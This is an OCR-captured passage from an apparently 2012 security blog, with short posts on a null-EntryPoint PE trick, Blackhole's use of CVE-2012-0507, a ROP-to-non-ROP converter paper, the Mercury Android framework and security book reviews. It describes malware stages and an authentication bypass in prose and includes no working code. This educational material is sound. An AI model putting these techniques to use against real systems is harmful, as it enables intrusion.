  1. fingerprint the operating system, the web server and the programming language version using netcraft He discovered a “/backend” directory looking into a javascript file he found in a browsable “/static” directory.
  2. Paolo crafted custom HTTP requests in order to bypass HTTP Basic Authentication that it was in place to avoid curious people to look into the backendI was able to make updates into the database…
Please refers to the original website to learn more about the "lessons learned" .Saturday, April 21, 2012

EXE null EntryPoint execution

Hi folks, today while I was surfing on my personal feeds I hit this interesting picture ( the original from Twitter is here). I am not going into the details since the picture is quite self explaining (plus I am traveling and not much time, unfortunately )


The first binary is a DLL with a null EntryPoint,basically it won't load. The second binary is a a PE executable with null EntryPoint too. The third and last executable is a "good" PE executable, in the sense that it gots a valid EntryPoint . In the black shell the author shows the execution of the two PE files. Both of them run ( both of them end in the execution of the null reference DLL). The actual PE with null EntryPoint got its %EP executed. Quite interesting isn't it?



Tuesday, April 17, 2012

The Biggest App Sec Mistakes Companies Make

His folks, today I would share some thoughts about the "mistake that company often do on computer security" . Mu thoughts on that topic have been published onveracode website. Directly from veracode:

Veracode Marketing recently polled a list of InfoSec luminaries, asking them “What is the biggest mistake companies make with Application Security and how can they fix it?” We’re pleased to present the responses from a wide array of security experts including Bill Brenner of CSO Magazine, Andrew Hay of the 451 Group, Jack Daniel of Tenable Network Security and Veracode’s own, Chris Wysopal. While all our experts have their unique perspectives, some common themes arose including the basic idea of taking application security more seriously and committing to a programmatic approach vs. ad hoc manual testing. We want to thank all our respondents for participating and we welcome your thoughts too – use our comment area and tell us, “What do you think is the biggest appsec mistake companies are making today?”

Is your company actually doing these mistakes too? If you are interested in sharing opinions about that or you want your thoughts don't esitate to contact me.


Sunday, April 15, 2012

X86 detailed informations

Hi folks, today I share a nice x86 resource called sandpile. It wraps out all the most important things to know aboutx86 processors, a very nice place where to find all the information that you need. Before it, I used to search into many different resources loosing time and energies in content switching and in figuring out the many different searching functionalities belonged to various resources.

The website offer 4 maing groups of categories: regs, where you find all the registers related informations. Codes everything you would like to know about code, data and misc where bayou will find everything else you need about x86 architecture. Let's take a look to interrupt table:

Each information is sotored in a clear and intuitive table. I Totally suggest to have a bookmark within its reference. Good job !!


Wednesday, April 11, 2012

A Design Methodology for Computer Security Testing

Yes, finally the first edition of my new book is available online. The book collects 3 years of researches in the penetrationtesting security field. It does not describe underground or fancy techniques to attack systems, it is most focused on the state of the art in penetration testing methodologies. In other words, if you need to test a system, how do you do ? What is the first step ? What tools can be used ? Or again, what is the path to follow in order to find flaws ?The book shows many real world examples on how the described methodology has been used. For example: penetration testing on electronic voting machines, how malware did use the describe methodology to bypass common security mechanisms and attacks to reputation systems.

Contributions :

  1. Penetration Testing Methodologies Overview.
  2. Penetration Testing Evaluation Properties.
  3. Proposed Penetration Testing Methodology.
  4. Enhanced Penetration Testing Methodology for E-Voting Systems.
  5. Practical scenarios: Applying Penetration Testing Methodologies.
  6. Proposed Coordination-Based Approach to Electronic Voting Systems.
  7. Examples of Methodology in Real Cases.
Index (click on it to make it big):

Please if you want some information or if you have some suggestions about it, drop me an email I'll be happy to answer to your questions.

Monday, April 2, 2012


My folks used to work with Java code, for many different reasons we often prefer Java rather then other languages and knowing Java vulnerabilities, for sure, helps developers in doing their job. Blackhole is like most other malware, it spreads over iframe and it executes a downloaded payload. ESET Threat blog in this post explains its execution in a colloquial but pretty complete way, a good reading. But what is interesting about this malware (at least for me) is the brand new used vulnerability : CVE-2012-0507 . CVE-2012-0507 describes an interesting vulnerability found in the Java AtomicReferenceArray class implementation, which wasn’t checking properly whether the array wasof an appropriate Object[] type. A malicious Java applet could use this flaw to bypass Java sandbox restrictions in order to execute malicious code outside of sandbox.
The blackhole infection starts with a classic iFrame like the following one:

The infectiongoes on following these steps ( image taken from here) :

David Harley did a great job in decompile the java code and in describing its workflow. Basically the java executable is built over 3 main functions:
  1. Init(). The malicious Java applet builds the object AtomicReferenceArray ( the vulnerable one) for the execution of malicious Java code outside the sandbox.
  2. Work(). This method builds the code of a class which executes outside the sandbox.
  3. DownloadAndExec(). This function downloads a malicious executable file to %TEMP%dsh89gyu.exe and executes it. Which happens to be a Win32/TrojanDownloader.Carberp.AH. In order to bypass detections by security software, the attackers changed the encryption algorithm and string obfuscation for the payload class executed outside the sandbox
Java malware are becoming day by day more and more spread over the net, on one hand because Java bugs are pretty common nowadays and on the other hand because java is "platform independent" by meaning that the attacker needs to write only one exploit overall and not one exploit for each attacked platform. I am very fascinatingabout java exploiting, and I totallythink that CVE-2012-0507 is remarkable example to show while explaining java vulnerabilities and Blackhole a great example of java malware.

Wednesday, March 28, 2012

Windows Malware: a reversing engineering document.

Today I'd like to share an interesting PDF found while surfing on some of my favorite feeds. The PDF is titled: "Deep dive into OS internals with WinDB" . Well, you might think this is going to be the same document explaining windows malware analysis, but not ; it is not the "always the same document". What I liked about it, is the easy way it shows information, small document with a lot of information. You could read it as a cheat sheet or as a little manual as well.

There is more than one reason to reverse malwares these days. As time passes by, the awareness about Reverse Engineering is spreading. However, there are few obstacles encountered for a person new in thefield of Reversing Viruses. Unlike other domains of security where you can make your way through with the reliance on some security tools, this field demands a strong understanding of the Operating System Internals and Assembly Language Programming.

The author covers many of the most important arguments in the field of the reverse engineering by giving the essential flavors of the following topics: basic concepts of reversing, a very brief summary of PE anatomy, DDI and importing tables, exporting table (those sections are very intensive;) and so on.. Well, I personally suggest this reading to averybody aims to know more about reversing engineering stuff, but have not much time to read whole manuals, and to everybody working on hardsecurity topics but not everyday practitioners. And obviously to " security students" who should be avid readers of such things. :)


Saturday, March 24, 2012

ROP and deROP

I ve been writing a lot about ROP in my past posts ( Here for a collection) covering some of the principal anti ROP techniques used by modern operative systems. Today I 'd like to suggest another great reading from Kanjie Lu et Al. From Peking University, Cina titled "deROP: removing return oriented programming from malware."

Many different researches put theirs efforts in finding a good ways to fight ROP malware, for example Davi et Al. And Chen et Al. Implemented a threshold system able to count how many buckets of instructionfollowed by RETN are present in a executable, once the threshold is reached the security mechanism alertsthe user about that. Another direction is to look for violations of last-in, first-out invariants of the stack data structure that call and return instructions usually maintain in normal benign programs. Francillion Et Al. Implemented shadow return address in hardware stack such that only call and return instructions can modify the return- address stack.Davi et al.claim that it is possible to extend their ROP defender with a frequency measurement unit to detect attacks with return-less ROP. The idea is that pop-jump sequences are uncommon in ordinary programs, while returnless ROP invokes such a sequence after each instruction sequence.Most recently, Onarlioglu et al. propose G-Free, which is a compiler-based approach to defeat against any possible form of ROP.

Kanjie Lu in this paper propose a "conversion tool" able to transform the most advanced ROP-Based payloads into equivalent non-ROP Payloads able to being analyzed from normal Malware analysis tools.

Instead, we propose an automatic converter, called deRop, to convert ROP shellcode into its semantically equivalent non-ROP shellcode so that any of the existing malware analysis tools can ana- lyze it.
The following image (taken from the paper ) shows an high level overview of the designed deRop system.

The paper well describes all the process behind the development of the tool underlining maindifficulties and structural choices. The authors tested their work by applying their tool on 4 real Payloads obtaining great results.

Even if the idea behind the entire work is surprising good, the developed tool presents some limitations if applied in real wokrld, for example its output is one running instance specific in ASLR, and again deRop needs dynamically executing the vulnerable application in order to locate the gadgets in the ROP exploit. But to know more about that please read the whole paper it is really a good reading ! Have fun.



Friday, March 23, 2012

Android bug hunting framework

Hi folks,

today I'd like to share a very promising framework called Mercury. Mercury is a free framework for bug hunters to find vulnerabilities, write proof-of-concept exploits and play in Android. Use dynamic analysis on Android applications and devices for quicker security assessments. Share publicly known methods of exploitation on Android and proof-of-concept exploits for applications and devices. The easy extensions interface allows users to write custom modules and exploits for Mercury Replace custom applications and scripts that perform single tasks with a framework that provides many tools.

To know more about it here, and here (documentation). Actually I am not an android security expert, so far I have never been involved in some security related android projects, but from what is my knowledge about security trends and little bit of security history I would bet on it, it seemed very promising and user friendly! Great job guys, keep going on it !Wednesday, March 21, 2012

Book Review: The Tangled Web. A guide to Securing Modern Web Applications

Everybody who reads this blog should be familiar with the computer security science. Computer security strongly depends from complexity, by meaning that much more complex is a system much high is the probability to have a vulnerability on it. Web applications, from simple HTTP requests to browser-side plugins, strongly interact with other applications makingalive a very complex system. Each complex system comes with vulnerabilities. Due to the flexibility, adaptability and availability web applications make some of the most complex system available on the digital era, and for this specific reason are one of the most bugged systems.


Michal Zalewski is one of the most talented browser security expert. He wrote many books but today I am going to suggest his last book titled : "The Tagled Web A Guide to Securing Modern Web Applications", published by NoStarch Press

Definitely Michal Zalewski wrote one of the most interesting book on the topic, it does not describe techniques to attack or how to defense applications by giving advices or simple examples, it really goes deep on the core problem analyzing almost all the Web technologies. He underlines weakness and why web browsers are fundamentally insecure pointing it out during his very deep working analysis. The reader will learn how things really works and why there will always be vulnerabilities in such a models.

A very interesting tool offered by the author is the "Security Engineering CheatSheet" available at the end of every chapter, it offers a quick way to sum up what the reader has learned so far. It's very useful even for a posteriori reading or for a quick search on contents.

Definitely a "must have" in any computer security engineer library.

Thursday, March 15, 2012

Free iPhone Security Reader

Hi Folks,
